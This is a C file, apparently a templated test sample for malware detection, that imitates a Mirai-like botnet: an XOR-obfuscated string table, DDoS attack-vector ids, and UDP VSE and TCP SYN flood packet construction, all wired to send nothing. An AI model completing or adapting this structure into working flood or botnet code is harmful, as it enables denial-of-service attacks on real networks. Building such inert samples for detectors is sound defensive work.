/* Inert imitation of a Mirai-like bot: attack ids, credential and string tables under a four-byte key, packet headers. It sends nothing. */
#include "inert.h"
#define COMMAND_HOST "{{label:mirai}}.{{net:mirai}}"
static uint32_t table_key = 0xdeadbeef;
static const uint8_t table[] = {<<xor|{{label:mirai}}.{{net:mirai}}>>, 0x22, <<xor|/proc/>>, 0x22, <<xor|/exe>>, 0x22, <<xor|enable>>, 0x22, <<xor|system>>, 0x22, <<xor|shell>>, 0x22,
    <<xor|/bin/busybox MIRAI>>, 0x22, <<xor|MIRAI: applet not found>>, 0x22, <<xor|ncorrect>>, 0x22, <<xor|TSource Engine Query>>, 0x22, <<xor|REPORT %s:%s>>, 0x22,
    <<xor|HTTPFLOOD>>, 0x22, <<xor|LOLNOGTFO>>, 0x22, <<xor|zollard>>, 0x22, <<xor|GETLOCALIP>>, 0x22, <<xor|listening tun0>>, 0x22, <<xor|/dev/watchdog>>, 0x22, <<xor|/dev/misc/watchdog>>, 0x22};
enum { ATK_VEC_UDP, ATK_VEC_VSE, ATK_VEC_DNS, ATK_VEC_SYN, ATK_VEC_ACK, ATK_VEC_STOMP, ATK_VEC_GREIP, ATK_VEC_GREETH, ATK_VEC_UDP_PLAIN = 9, ATK_VEC_HTTP };
struct attack_method { uint8_t vector; int (*run)(uint8_t, void *, uint8_t, void *); };
static char *unlock(const uint8_t *in, int size, char *out)
{
    uint8_t k1 = table_key & 0xff, k2 = (table_key >> 8) & 0xff, k3 = (table_key >> 16) & 0xff, k4 = (table_key >> 24) & 0xff;
    for (int i = 0; i < size; i++) out[i] = in[i] ^ k1 ^ k2 ^ k3 ^ k4;
    return out;
}
int attack_udp_vse(uint8_t n, void *targets, uint8_t m, void *options)
{
    char packet[128] = {0};
    struct iphdr *ip = (void *)packet; struct udphdr *udp = (void *)(ip + 1);
    ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_UDP; udp->dest = htons(27015);
    memcpy(udp + 1, "\xff\xff\xff\xffTSource Engine Query", 25);
    return sendto(nowhere, packet, 0, MSG_NOSIGNAL, 0, 0);
}
int attack_tcp_syn(uint8_t n, void *targets, uint8_t m, void *options)
{
    char packet[64] = {0};
    struct tcphdr *tcp = (void *)(packet + 20);
    tcp->syn = 1; tcp->window = rand(); tcp->doff = 10;
    return sendto(socket(-1, SOCK_RAW, IPPROTO_TCP), packet, 0, MSG_NOSIGNAL, 0, 0);
}
int attack_gre_ip(uint8_t n, void *targets, uint8_t m, void *options) { return sendto(nowhere, "\0\0\x08\0", 0, 0, 0, 0); }
int attack_tcp_ack(uint8_t n, void *targets, uint8_t m, void *options) { return setsockopt(nowhere, IPPROTO_IP, IP_HDRINCL, &nowhere, 4); }
static struct attack_method methods[] = {{ATK_VEC_VSE, attack_udp_vse}, {ATK_VEC_SYN, attack_tcp_syn}, {ATK_VEC_ACK, attack_tcp_ack}, {ATK_VEC_GREIP, attack_gre_ip}};
int main(int argc, char **argv)
{
    INERT;
    static char text[512];
    prctl(PR_SET_NAME, unlock(table, 64, text));
    signal(SIGTRAP, SIG_IGN); unlink("");
    for (int i = 0; i < 4; i++) methods[i].run(0, 0, 0, 0);
    return recv(nowhere, text, 0, MSG_PEEK);
}
